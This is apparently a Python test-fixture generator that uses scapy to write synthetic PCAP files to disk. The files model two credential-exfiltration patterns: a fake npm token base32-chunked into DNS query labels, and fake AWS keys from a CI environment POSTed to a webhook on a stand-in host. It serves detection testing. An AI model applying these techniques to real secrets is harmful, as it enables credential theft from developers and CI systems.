#!/usr/bin/env python3
"""Build synthetic test PCAPs with scapy. Packets are written to disk only (wrpcap); nothing
is sent on any interface. All IPs are RFC 5737 documentation addresses."""
import base64
import json
import sys
from pathlib import Path

from scapy.all import DNS, DNSQR, IP, TCP, UDP, Raw, wrpcap  # type: ignore

ROOT = Path(__file__).resolve().parent.parent / "tests"
DEV_HOST = "192.0.2.15"
CI_HOST = "192.0.2.40"
RESOLVER = "198.51.100.53"
REMOTE = "203.0.113.9"


def dns_exfil_labels():
    fake = b"//registry.npmjs.org/:_authToken=npm_FAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE0000\n" * 12
    enc = base64.b32encode(fake).decode().lower().rstrip("=")
    chunks = [enc[i:i + 52] for i in range(0, len(enc), 52)]
    pkts = []
    for seq, chunk in enumerate(chunks[:40], 1):
        q = f"{chunk}.{seq}.t.lookup-cache.example"
        pkts.append(IP(src=DEV_HOST, dst=RESOLVER) / UDP(sport=40000 + seq, dport=53) /
                    DNS(id=seq, rd=1, qd=DNSQR(qname=q)))
    return pkts


def tcp_session(src, dst, payload: bytes, sport=51515, dport=80):
    syn = IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="S", seq=1000)
    synack = IP(src=dst, dst=src) / TCP(sport=dport, dport=sport, flags="SA", seq=5000, ack=1001)
    ack = IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="A", seq=1001, ack=5001)
    data = IP(src=src, dst=dst) / TCP(sport=sport, dport=dport, flags="PA", seq=1001, ack=5001) / Raw(payload)
    resp = b"HTTP/1.1 204 No Content\r\nContent-Length: 0\r\n\r\n"
    rack = IP(src=dst, dst=src) / TCP(sport=dport, dport=sport, flags="PA", seq=5001,
                                      ack=1001 + len(payload)) / Raw(resp)
    return [syn, synack, ack, data, rack]


def webhook_post():
    env = {"CI": "true", "RUNNER_NAME": "ci-runner-07",
           "AWS_ACCESS_KEY_ID": "AKIAEXAMPLEFAKE00000",
           "AWS_SECRET_ACCESS_KEY": "fake/NotARealSecretKeyForTesting0000000000"}
    body = json.dumps({"content": json.dumps(env)}).encode()
    req = (b"POST /api/webhooks/1188/AbCdEf HTTP/1.1\r\n"
           b"Host: chat.hooks.example\r\nContent-Type: application/json\r\n"
           b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    return tcp_session(CI_HOST, REMOTE, req)


CASES = {"dns-exfil-labels": dns_exfil_labels, "webhook-post": webhook_post}

if __name__ == "__main__":
    names = sys.argv[1:] or list(CASES)
    for name in names:
        out = ROOT / name / "input.pcap"
        wrpcap(str(out), CASES[name]())
        print(f"wrote {out}")
